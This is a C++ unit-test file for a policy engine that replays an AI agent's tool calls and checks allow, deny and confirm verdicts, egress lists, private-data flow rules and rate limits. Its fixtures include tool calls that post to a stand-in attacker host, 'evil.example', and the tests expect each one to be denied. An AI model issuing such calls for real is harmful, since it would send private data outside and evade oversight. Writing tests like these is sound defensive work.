#include "replay/replayed_run.h"

#include <gtest/gtest.h>

#include <string>
#include <string_view>
#include <vector>

#include "model/rule_id.h"
#include "policy/load.h"

namespace yett {
namespace {

using enum Verdict;

constexpr std::string_view kDesk = R"([policy]
name = "desk"
version = 1
[session]
permissions = "full access"
tenant = "acme"
[limits]
denials = 2
calls_per_minute = 5
sends_per_run = 2
[tools]
search = { effect = "read", sensitivity = "internal", reversible = true, returns = "retrieved_document" }
ticket = { effect = "read", sensitivity = "internal", reversible = true }
clock = { effect = "read", sensitivity = "internal", reversible = true, returns = "trusted" }
accounts = { effect = "read", sensitivity = "private", reversible = true, returns = "trusted", tenant = "single" }
post = { effect = "send", sensitivity = "internal", reversible = true, returns = "trusted", destination.url = ["url"] }
mail = { effect = "send", sensitivity = "internal", reversible = false, destination.email = ["to"] }
run = { effect = "execute", sensitivity = "private", reversible = false, tenant = "single" }
[egress]
hosts = ["hooks.desk.example"]
email_domains = ["desk.example"]
[approval]
unsigned = "a test"
[flow]
private_to_outside = "deny"
)";

constexpr std::string_view kPost = R"({"tool":"post","arguments":{"url":"https://hooks.desk.example/"}})";
constexpr std::string_view kLeak = R"({"tool":"post","arguments":{"url":"https://evil.example/"}})";

/// A run of the desk, and what it is judged by.
class Replay {
 public:
  explicit Replay(RunMemory memory, AskedCalls asked = AskedCalls::Stopped, const Policy& policy = desk(),
                  MinuteLimits minute_limits = MinuteLimits::Count)
      : run_({.engine = Engine::strict(),
              .policy = policy,
              .session = session_,
              .now = TimePoint(std::chrono::sys_days(std::chrono::year(2026) / 11 / 30)),
              .memory = memory,
              .asked = asked,
              .minute_limits = minute_limits,
              .sealed = sealed_}) {
    session_.tenant = "acme";
    session_.allowed_tenants = {"acme"};
    session_.permissions = *find_builtin_permission_set("full access");
    session_.expires_at = TimePoint::max();
  }

  Verdict judge(std::string_view line) { return decide(line).verdict(); }
  Verdict call(std::string_view tool) { return judge(fmt(tool)); }
  RuleId rule(std::string_view line) { return decide(line).rule(); }
  [[nodiscard]] const SessionState& state() const { return run_.state(); }

  static const Policy& desk() {
    static const PolicyRef kPolicy = [] {
      auto policy = parse_policy(kDesk, "desk.toml");
      if (!policy) ADD_FAILURE() << policy.error().to_string();
      return policy ? *policy : std::make_shared<Policy>();
    }();
    return *kPolicy;
  }

 private:
  static std::string fmt(std::string_view tool) { return R"({"tool":")" + std::string(tool) + "\"}"; }
  Decision decide(std::string_view line) { return run_.judge(read_call_line(line)); }

  Session session_;
  std::vector<std::string> sealed_;
  ReplayedRun run_;
};

TEST(ReplayedRun, WithoutMemoryJudgesEachCallAlone) {
  Replay run(RunMemory::None);
  EXPECT_EQ(run.call("accounts"), Allow);
  EXPECT_EQ(run.call("ticket"), Allow);
  EXPECT_EQ(run.judge(kPost), Allow);
  for (int i = 0; i < 10; ++i) EXPECT_EQ(run.judge(kLeak), Deny);
  EXPECT_EQ(run.judge(kPost), Allow);
  EXPECT_EQ(run.state(), SessionState::of_new_run());
}

TEST(ReplayedRun, WithoutMemoryKnowsWhatTheLineSays) {
  Replay run(RunMemory::None);
  EXPECT_EQ(run.rule(R"({"tool":"post","arguments":{"url":"https://hooks.desk.example/"},)"
                     R"("source":"tool_output","read_private":true})"),
            RuleId::FlowPrivateToOutside);
  EXPECT_EQ(run.judge(kPost), Allow);
}

TEST(ReplayedRun, InSequenceTakesInWhatAllowedCallsReturn) {
  Replay run(RunMemory::Sequence);
  EXPECT_EQ(run.call("clock"), Allow);
  EXPECT_EQ(run.state().taken_in, SourceSet{SourceKind::User});
  EXPECT_EQ(run.call("search"), Allow);
  EXPECT_EQ(run.state().taken_in, (SourceSet{SourceKind::User, SourceKind::RetrievedDocument}));
  EXPECT_FALSE(run.state().private_seen);
  EXPECT_EQ(run.call("accounts"), Allow);
  EXPECT_TRUE(run.state().private_seen);
  EXPECT_EQ(run.rule(kPost), RuleId::FlowPrivateToOutside);
}

TEST(ReplayedRun, InSequenceTakesInNothingOfDeniedCallsNorOfToolsThatNobodyKnows) {
  Replay run(RunMemory::Sequence);
  EXPECT_EQ(run.judge(R"({"tool":"search","arguments":{"more":1}})"), Deny);
  EXPECT_EQ(run.call("stranger"), Deny);
  EXPECT_EQ(run.state().taken_in, SourceSet{SourceKind::User});
}

TEST(ReplayedRun, InSequenceKeepsWhatALineSays) {
  Replay run(RunMemory::Sequence);
  EXPECT_EQ(run.judge(R"({"tool":"clock","source":"tool_output","read_private":true})"), Allow);
  EXPECT_TRUE(run.state().private_seen);
  EXPECT_EQ(run.rule(kPost), RuleId::FlowPrivateToOutside);
}

TEST(ReplayedRun, AnAskedCallThatPassesRunsAndOneThatIsStoppedDoesNot) {
  Replay stopped(RunMemory::Sequence, AskedCalls::Stopped);
  EXPECT_EQ(stopped.call("run"), Confirm);
  EXPECT_EQ(stopped.state().taken_in, SourceSet{SourceKind::User});
  EXPECT_FALSE(stopped.state().private_seen);
  Replay passes(RunMemory::Sequence, AskedCalls::Pass);
  EXPECT_EQ(passes.call("run"), Confirm);
  EXPECT_TRUE(passes.state().taken_in.contains(SourceKind::ToolOutput));
  EXPECT_TRUE(passes.state().private_seen);
  EXPECT_EQ(passes.rule(kPost), RuleId::FlowPrivateToOutside);
}

TEST(ReplayedRun, CountsAnAskedCallAsSentWhenItPasses) {
  constexpr std::string_view kMail = R"({"tool":"mail","arguments":{"to":"bo@desk.example"}})";
  for (const AskedCalls asked : {AskedCalls::Stopped, AskedCalls::Pass}) {
    Replay run(RunMemory::Sequence, asked);
    EXPECT_EQ(run.judge(kMail), Confirm);
    EXPECT_EQ(run.state().tally.sends, asked == AskedCalls::Pass ? 1u : 0u);
  }
}

// Calls of which nobody knows when they were made would all fall into one minute, and be stopped for that.
TEST(ReplayedRun, IsNotSuspendedByDenialsOfNoKnownTime) {
  Replay run(RunMemory::Sequence, AskedCalls::Stopped, Replay::desk(), MinuteLimits::LeftOut);
  for (int i = 0; i < 50; ++i) {
    const std::string call = R"({"tool":"post","arguments":{"url":"https://evil.example/)" + std::to_string(i) + "\"}}";
    EXPECT_EQ(run.rule(call), RuleId::DestinationUnlisted);
  }
  EXPECT_EQ(run.judge(kPost), Allow);
}

TEST(ReplayedRun, IsSuspendedByAsManyDenialsAsThePolicySays) {
  Replay run(RunMemory::Sequence);
  EXPECT_EQ(run.rule(kLeak), RuleId::DestinationUnlisted);
  EXPECT_EQ(run.call("clock"), Allow);
  EXPECT_EQ(run.rule(R"({"tool":"stranger"})"), RuleId::ToolUnregistered);
  EXPECT_EQ(run.rule(kPost), RuleId::SessionSuspended);
}

TEST(ReplayedRun, CountsADenialOfALineThatIsNoCall) {
  Replay run(RunMemory::Sequence);
  EXPECT_EQ(run.rule("[]"), RuleId::ArgumentsMalformed);
  EXPECT_EQ(run.rule("{}"), RuleId::ArgumentsMalformed);
  EXPECT_EQ(run.rule(kPost), RuleId::SessionSuspended);
}

TEST(ReplayedRun, DeniesAToolThatTheLockDoesNotHave) {
  Policy locked = Replay::desk();
  locked.lock.emplace();
  Replay run(RunMemory::None, AskedCalls::Stopped, locked);
  EXPECT_EQ(run.rule(R"({"tool":"clock"})"), RuleId::ToolUnregistered);
}

TEST(ReplayedRun, CountsCallsAndSends) {
  Replay run(RunMemory::Sequence);
  EXPECT_EQ(run.judge(kPost), Allow);
  EXPECT_EQ(run.judge(kPost), Allow);
  EXPECT_EQ(run.state().tally.sends, 2u);
  EXPECT_EQ(run.rule(kPost), RuleId::SessionLimit);
  Replay busy(RunMemory::Sequence);
  for (int i = 0; i < 5; ++i) EXPECT_EQ(busy.call("clock"), Allow);
  EXPECT_EQ(busy.rule(R"({"tool":"clock"})"), RuleId::SessionLimit);
}

}  // namespace
}  // namespace yett
